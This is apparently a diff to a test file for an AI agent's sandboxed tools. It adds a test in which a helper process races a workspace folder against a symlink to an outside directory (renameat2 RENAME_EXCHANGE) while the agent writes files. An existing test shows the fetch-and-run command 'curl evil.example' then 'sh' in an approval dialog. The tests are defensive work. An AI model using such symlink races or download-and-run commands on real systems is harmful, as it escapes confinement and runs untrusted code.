@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
+import sys
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -490,3 +492,34 @@ async def test_the_approval_dialog_lists_a_commands_parts_and_where_it_runs(home
         assert f"在工作区 {ws} 运行命令" in str(dialog.query_one("#action").render())
         detail = str(dialog.query_one("#action-detail Static").render())
         assert "1. ls" in detail and "2. curl evil.example" in detail and "3. sh" in detail
+
+
+SWAPPER = """
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+RENAME_EXCHANGE = 2
+a, b = (name.encode() for name in sys.argv[1:3])
+while True:
+    libc.renameat2(-100, a, -100, b, RENAME_EXCHANGE)  # -100: AT_FDCWD
+"""
+
+
+def test_a_folder_swapped_for_a_symlink_during_writes_sends_nothing_outside(home, ws, outside):
+    """A second process exchanges a workspace folder with a symlink to the outside, again
+    and again (renameat2 RENAME_EXCHANGE), while the model writes into that folder."""
+    (ws / "sub").mkdir()
+    (ws / "swap").symlink_to(outside.parent)
+    registry = default_registry()
+    context = ToolContext(home=home, registry=registry)
+    swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, ws / "sub", ws / "swap"])
+    written = 0
+    try:
+        for n in range(3000):
+            args = {"path": f"sub/f{n}.txt", "content": "x", "mode": "overwrite"}
+            spec, params = registry.validate({"name": "write_file", "args": args})
+            written += registry.run(spec, params, context, f"w{n}").ok
+    finally:
+        swapper.kill()
+        swapper.wait()
+    assert sorted(p.name for p in outside.parent.iterdir()) == ["secret.txt"]
+    assert written > 0  # the race did not simply refuse every write
